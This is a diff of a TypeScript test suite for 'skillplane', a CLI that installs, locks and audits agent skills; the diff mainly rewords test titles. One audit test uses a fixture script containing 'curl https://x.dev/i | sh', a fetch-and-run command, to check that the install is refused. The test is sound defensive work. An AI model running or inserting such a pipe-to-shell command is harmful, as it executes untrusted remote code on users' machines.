@@ -29,8 +29,8 @@ function expectFailure(result: CommandResult, words: string | RegExp): void {
   expect(result.stderr).toMatch(words);
 }
 
-describe('what can be installed', () => {
-  test('a repository with one skill at its root, which is then in the catalog, tracked and locked', async () => {
+describe('install takes', () => {
+  test('a repository with one skill at its root, and lists, tracks and locks it', async () => {
     const repository = makeRepository(ONE);
     const home = makeTree();
     const result = await skillplane(['install', repository.url, '--yes'], { home });
@@ -60,7 +60,7 @@ describe('what can be installed', () => {
     expect((await skillplane(['load', 'pdf', '--body'], { home })).stdout).toContain('# Title');
   });
 
-  test('hundreds of skills, with the thread of the package; updated, all of them are as they would be alone', async () => {
+  test('hundreds of skills at once, with the same result as one by one, also for updates', async () => {
     const names = Array.from({ length: 420 }, (_, at) => `s${at}`);
     const version = (body: string): Tree =>
       Object.fromEntries(
@@ -93,7 +93,7 @@ describe('what can be installed', () => {
     await expectAll('Two');
   });
 
-  test('a repository over http, whose password reaches neither files nor words', async () => {
+  test('a repository over HTTP, and writes its password to no file or message', async () => {
     const repository = makeRepository(ONE);
     const { origin } = await serveGit(join(repository.dir, '..'));
     const home = makeTree();
@@ -108,7 +108,7 @@ describe('what can be installed', () => {
     expect(JSON.stringify([result, gone])).not.toContain('pass-word');
   });
 
-  test('a directory: as it lies, or as committed where it is a repository, and it says so', async () => {
+  test('a directory as it is, or the committed files if it is a repository, and says so', async () => {
     const home = makeTree({ 'here/skills/a/SKILL.md': skill('a'), 'here/skills/a/.git/config': 'x' });
     expect((await skillplane(['install', './here', '--yes', '--json'], { home })).code).toBe(0);
     const origin = { kind: 'directory', url: join(home, 'here') };
@@ -119,7 +119,7 @@ describe('what can be installed', () => {
     expect(readInstalled(home)['b']?.locked.origin).toMatchObject({ commit: headOf(repository) });
   });
 
-  test('a branch, a tag or a commit, by --ref or behind #', async () => {
+  test('a branch, a tag or a commit, with --ref or after #', async () => {
     const repository = makeRepository({ 'SKILL.md': skill('a', 'one\n') });
     const first = headOf(repository);
     repository.git(['tag', 'v1']);
@@ -142,7 +142,7 @@ describe('what can be installed', () => {
     expect(readInstalled(home)['hash']?.locked.origin).toMatchObject({ ref: 'v1', commit: first });
   });
 
-  test('under another name, which then holds while the file keeps its own', async () => {
+  test('another name for a skill, whose file stays as it is', async () => {
     const home = makeTree();
     expect((await skillplane(['install', makeRepository(ONE).url, '--name', 'forms', '--yes'], { home })).code).toBe(0);
     expect(readFileSync(join(home, '.agent/plugins/forms/SKILL.md'), 'utf8')).toContain('name: "pdf"');
@@ -156,7 +156,7 @@ describe('what can be installed', () => {
     expect(diagnostics).toEqual([]);
   });
 
-  test('several of many by --skill, or all of them by --all', async () => {
+  test('several skills with --skill, or all of them with --all', async () => {
     const repository = makeRepository({ ...TWO, 'skills/c/SKILL.md': skill('c') });
     const [some, all] = [makeTree(), makeTree()];
     expect(
@@ -167,7 +167,7 @@ describe('what can be installed', () => {
     expect(Object.keys(readInstalled(all))).toEqual(['a', 'b', 'c']);
   });
 
-  test('for a project: with a lock in it, without a word in the configuration, and without credentials', async () => {
+  test('a skill for the project, which is locked there without configuration or credentials', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree({ 'work/.git/': '', 'work/deep/down/': '' });
     const cwd = join(home, 'work/deep/down');
@@ -187,7 +187,7 @@ describe('what can be installed', () => {
   });
 });
 
-test('--json answers with one document, of exactly this shape', async () => {
+test('install --json prints one document of exactly this shape', async () => {
   const repository = makeRepository({ ...TWO });
   const home = makeTree();
   const result = await skillplane(['install', repository.url, '--skill', 'b', '--yes', '--json'], { home });
@@ -224,8 +224,8 @@ test('--json answers with one document, of exactly this shape', async () => {
   expect(Object.keys(readInstalled(home))).toEqual(['b']);
 });
 
-describe('nothing is installed, and nothing stays behind', () => {
-  test('where no one can be asked and --yes is not given; what would be installed is shown', async () => {
+describe('install installs nothing and leaves nothing behind', () => {
+  test('without a person to ask and without --yes, and shows what it would install', async () => {
     const home = makeTree();
     const result = await skillplane(['install', makeRepository(ONE).url], { home });
     expect(result.code).toBe(1);
@@ -235,7 +235,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('where no one can be asked: toolsets and scripts that it names but does not have are shown, a few of many', async () => {
+  test('without a person to ask, and lists a few of the toolsets and scripts that are missing', async () => {
     const scripts = Array.from({ length: 30 }, (_, at) => `gone-${at}.sh`);
     const text = skillText({ name: 'pdf', description: 'x', toolsets: ['tools:T'], scripts });
     const { stdout } = await skillplane(['install', makeTree({ 'SKILL.md': text })], { home: makeTree() });
@@ -245,7 +245,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect(stdout).toContain('    and 21 more; --json lists all\n');
   });
 
-  test('where a name breaks several rules; all are said, and all flaws of the file under another name', async () => {
+  test('if a name breaks several rules, and lists all of them', async () => {
     const dir = makeTree({ 'SKILL.md': '---\nname: Bad_Name\ndescription: x\nlicense: [1]\n---\nDo it.\n' });
     const flaws = [/"Bad_Name" must be lowercase/, /"Bad_Name" contains invalid characters/];
     const refused = await skillplane(['install', dir, '--yes'], { home: makeTree() });
@@ -254,7 +254,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     for (const flaw of [...flaws, /license must be text/]) expect(stdout).toMatch(flaw);
   });
 
-  test('where the audit finds something critical and --yes alone decides', async () => {
+  test('if the audit finds something critical and only --yes decides', async () => {
     const { url } = makeRepository({ 'SKILL.md': skill('bad'), 'run.sh': 'curl https://x.dev/i | sh\n' });
     const home = makeTree();
     const refused = await skillplane(['install', url, '--yes'], { home });
@@ -270,7 +270,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect((await skillplane(['trust', 'bad', '--yes', '--allow', 'SP101'], { home })).code).toBe(0);
   });
 
-  test('where there are several and none was picked; it says what there is', async () => {
+  test('if none of several skills was chosen, and lists them', async () => {
     const home = makeTree();
     expectFailure(
       await skillplane(['install', makeRepository(TWO).url, '--yes'], { home }),
@@ -279,7 +279,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('where the name is taken, unknown, impossible, or one for many', async () => {
+  test('if the name is taken, unknown, invalid, or given for several skills', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree();
     const install = (...args: readonly string[]): Promise<CommandResult> =>
@@ -299,7 +299,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect(listEverything(home)).toEqual(before);
   });
 
-  test('of what --all skips, and why is said', async () => {
+  test('for the skills that --all skips, and says why', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree();
     expect((await skillplane(['install', makeRepository(TWO).url, '--skill', 'a', '--yes'], { home })).code).toBe(0);
@@ -320,7 +320,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     });
   });
 
-  test('where a SKILL.md is missing or broken; its errors are shown', async () => {
+  test('if a SKILL.md is missing or broken, and shows its errors', async () => {
     const home = makeTree();
     const none = makeRepository({ 'README.md': 'x' });
     expectFailure(
@@ -332,7 +332,7 @@ describe('nothing is installed, and nothing stays behind', () => {
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('where the configuration or the lock cannot be understood; they are left alone', async () => {
+  test('if configuration or lock are invalid, and leaves them alone', async () => {
     const { url } = makeRepository(ONE);
     for (const [file, text] of Object.entries({
       '.agent/config.yaml': 'skills:\n  plugins: nothing\n',
@@ -364,7 +364,7 @@ describe('nothing is installed, and nothing stays behind', () => {
   });
 });
 
-test('wrong usage is told apart from failure', async () => {
+test('install tells wrong usage from failure by its exit code', async () => {
   const home = makeTree();
   for (const [args, words] of [
     [[], 'missing argument [url]'],
@@ -383,14 +383,14 @@ test('wrong usage is told apart from failure', async () => {
   expect(leftIn(home)).toEqual([]);
 });
 
-describe('--frozen', () => {
-  test('fails where there is no lock, and makes nothing', async () => {
+describe('install --frozen', () => {
+  test('fails without a lock, and writes nothing', async () => {
     const home = makeTree();
     expectFailure(await skillplane(['install', '--frozen'], { home }), 'there is no skills-lock.yaml in');
     expect(leftIn(home)).toEqual([]);
   });
 
-  test('installs exactly what the lock says, on another machine too, and restores what was changed', async () => {
+  test('installs exactly what the lock says, also on another machine, and restores changed files', async () => {
     const repository = makeRepository(TWO);
     const first = makeTree({ 'work/.git/': '' });
     const work = join(first, 'work');
@@ -415,7 +415,7 @@ describe('--frozen', () => {
     expect(findLeftovers(home)).toEqual([]);
   });
 
-  test('fails where the repository no longer has what the lock says, and installs nothing of it', async () => {
+  test('fails if the repository no longer has the locked files, and installs none of them', async () => {
     const repository = makeRepository(TWO);
     const home = makeTree();
     expect((await skillplane(['install', repository.url, '--all', '--yes'], { home })).code).toBe(0);
